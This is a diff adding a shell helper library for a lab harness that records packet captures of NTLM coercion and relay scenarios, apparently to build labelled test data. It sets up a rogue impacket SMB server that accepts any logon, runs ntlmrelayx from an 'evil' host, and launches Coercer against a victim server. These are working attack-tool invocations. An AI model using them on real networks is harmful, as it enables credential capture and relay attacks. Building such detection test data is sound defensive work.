@@ -1,0 +1,77 @@
+# Recording one scenario: what the functions in scenarios/ are written with.
+
+NAME=          # of the scenario being recorded
+TCPDUMP=       # process ids of what the scenario started
+LISTENER=
+HELPER=
+
+# record NAME: start the capture
+record() {
+  NAME=$1
+  echo "== $NAME"
+  date +%s.%N > "$RUN/started"
+  : > "$RUN/relay.log"
+  # Without immediate mode the kernel hands over blocks, and the last second would be missing.
+  ip netns exec $SWITCH tcpdump -i $SPAN -s0 -U --immediate-mode -B 16384 -Z root -w "$RUN/$NAME.pcap" tcp or udp \
+    > "$RUN/tcpdump.log" 2>&1 &
+  TCPDUMP=$!
+  local _
+  for _ in $(seq 40); do grep -q listening "$RUN/tcpdump.log" && break; sleep 0.1; done
+  sleep 0.3
+}
+
+# truth KEY=VALUE...: stop the capture and write its JSON
+truth() {
+  sleep 0.7
+  stop_scenario
+  mv "$RUN/$NAME.pcap" "$CAPTURES/$NAME.pcap"
+  "$CLIENTS/python" "$HERE/truth.py" "$CAPTURES/$NAME" "$@"
+}
+
+stop_scenario() {
+  local pid
+  if [ -n "$TCPDUMP" ]; then kill -INT "$TCPDUMP" 2> /dev/null; wait "$TCPDUMP" 2> /dev/null; fi || true
+  for pid in $LISTENER $HELPER; do
+    kill -9 "$pid" 2> /dev/null || true
+    wait "$pid" 2> /dev/null || true
+  done
+  TCPDUMP= LISTENER= HELPER=
+}
+
+# Which client makes the victim's outbound logon: libsmbclient sends a MIC, impacket does not.
+callback_with() { echo "$1" > "$RUN/callback"; }
+
+# listen HOST ADDRESS: a rogue SMB server that takes any logon and hands out a fixed challenge
+listen() {
+  mkdir -p "$RUN/loot"
+  "$HERE/in_host" "$1" "$IMPACKET/python" -u "$IMPACKET/smbserver.py" -smb2support -ip "$2" share "$RUN/loot" \
+    > "$RUN/listener.log" 2>&1 &
+  LISTENER=$!
+  wait_for_port "$1" 445
+}
+
+# relay ARGUMENTS...: ntlmrelayx on the attacker's host
+relay() {
+  mkdir -p "$RUN/loot"
+  # It reads commands from stdin and stops at its end; a pipe open in both directions never ends.
+  [ -p "$RUN/stdin" ] || mkfifo "$RUN/stdin"
+  (
+    cd "$RUN/loot"
+    exec "$HERE/in_host" evil "$IMPACKET/python" -u "$IMPACKET/ntlmrelayx.py" -debug -smb2support \
+      --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server \
+      "$@"
+  ) <> "$RUN/stdin" > "$RUN/relay.log" 2>&1 &
+  LISTENER=$!
+  local _
+  for _ in $(seq 80); do grep -q 'Servers started' "$RUN/relay.log" && break; sleep 0.25; done
+  sleep 0.5
+}
+
+# call ARGUMENTS...: one bind and one request from the attacker, see call.py
+call() { in_host evil timeout 30 "$IMPACKET/python" "$HERE/call.py" "$@" > "$RUN/call.log" 2>&1 || true; }
+
+# coercer ARGUMENTS...: the real tool, against the victim
+coercer() {
+  in_host evil timeout 60 "$COERCER/coercer" coerce --always-continue -u alice -p "$ALICE_PW" -d $DOMAIN \
+    -t $SRV -l $EVIL --auth-type smb --filter-transport-name msrpc "$@" > "$RUN/coercer.log" 2>&1 || true
+}
